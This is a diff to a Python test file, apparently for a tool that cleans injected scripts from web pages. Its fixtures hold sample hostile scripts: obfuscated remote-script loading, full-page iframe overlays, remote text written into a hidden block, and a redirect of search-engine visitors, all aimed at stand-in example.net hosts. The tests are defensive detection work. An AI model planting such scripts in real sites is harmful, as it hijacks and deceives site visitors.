@@ -203,3 +203,35 @@ def test_a_script_that_counts_in_the_title_stays() -> None:
         head="<script>var d=document;d['ti'+'tle']='(3) Opening hours';var s=d.createElement('scr'+'ipt');"
         "s.src='https://j.example.net/t.js';d.head.appendChild(s);</script>\n"
     )
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        (
+            'document.body.innerHTML=\'<iframe src="https://t.example.net/go" style="position:fixed;top:0;left:0;'
+            "width:100%;height:100%;border:0\"></iframe>'"
+        ),
+        (
+            "var f=document.createElement('iframe');f.src='https://t.example.net/go';f.style.cssText='position:fixed;top:0;"
+            "left:0;width:100%;height:100%;z-index:99999';document.body.appendChild(f);"
+        ),
+    ],
+)
+def test_a_frame_over_the_page_that_a_script_makes_goes(script: str) -> None:
+    restores(body=f"<script>{script}</script>\n", rule="written-frame")
+
+
+def test_what_is_fetched_and_written_into_a_hidden_box_goes() -> None:
+    asks = "var x=new XMLHttpRequest();x.open('GET','{}',false);x.send();"
+    writes = "document.write('<div style=\"{}\">'+x.responseText+'</div>');"
+    hidden = asks.format("https://l.example.net/l.txt") + writes.format("display:none")
+    restores(body=f"<script>{hidden}</script>\n", rule="fetched-block")
+    silent(body=f"<script>{asks.format('/parts/l.txt') + writes.format('display:none')}</script>\n")
+    silent(body=f"<script>{asks.format('https://l.example.net/l.txt') + writes.format('margin:0')}</script>\n")
+
+
+def test_visitors_of_a_search_for_whom_a_window_is_opened() -> None:
+    script = "const T={g:'https://go.example.net/x'};if(document.referrer.match(/google|bing/))window.open(T.g,'_self')"
+    restores(head=f"<script>{script}</script>\n", rule="search-redirect")
+    silent(head=f"<script>{script.replace('https://go.example.net', '')}</script>\n")
